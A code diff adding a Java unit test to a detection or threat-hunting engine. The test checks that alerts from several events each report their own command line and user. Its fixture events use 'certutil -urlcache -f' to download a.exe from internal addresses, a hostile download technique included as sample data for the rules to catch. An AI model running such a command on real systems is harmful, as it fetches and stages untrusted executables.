@@ -97,6 +97,27 @@ class DerivedFieldsHuntTest {
         assertEquals(1, r.alerts().size(), r.alerts().toString());
     }
 
+    @Test
+    void everyAlertOfAnEventReadsThatEventsDetailsAndEntities() throws IOException {
+        // Two rules match each of three events in a row on one worker: an event's alerts share
+        // what was read of it, and nothing read of one event reaches the next one's alerts.
+        Path f = dir.resolve("three.json");
+        List<String> lines = new java.util.ArrayList<>();
+        for (int i = 1; i <= 3; i++) {
+            lines.add(process(1, "certutil -urlcache -f http://10.0.0." + i + "/a.exe a.exe")
+                    .replace("\"Hostname\":\"WS1\"", "\"Hostname\":\"WS" + i + "\",\"User\":\"CORP\\\\user" + i + "\""));
+        }
+        Files.write(f, lines);
+        HuntFixture.Rules rules = HuntFixture.rules(List.of(write("n.yml", NORMALIZED), write("r.yml", RAW)));
+        HuntFixture.Result r = HuntFixture.hunt(rules, 1, f.toString());
+        assertEquals(6, r.alerts().size(), r.alerts().toString());
+        for (var a : r.alerts()) {
+            int line = Integer.parseInt(a.eventRefs().get(0).substring(a.eventRefs().get(0).lastIndexOf('L') + 1));
+            assertEquals("certutil -urlcache -f http://10.0.0." + line + "/a.exe a.exe", a.details().get("CommandLine"), a.toString());
+            assertEquals("CORP\\user" + line, a.entities().get("User"), a.toString());
+        }
+    }
+
     private Path write(String name, String text) throws IOException {
         Path p = dir.resolve(name);
         Files.writeString(p, text);
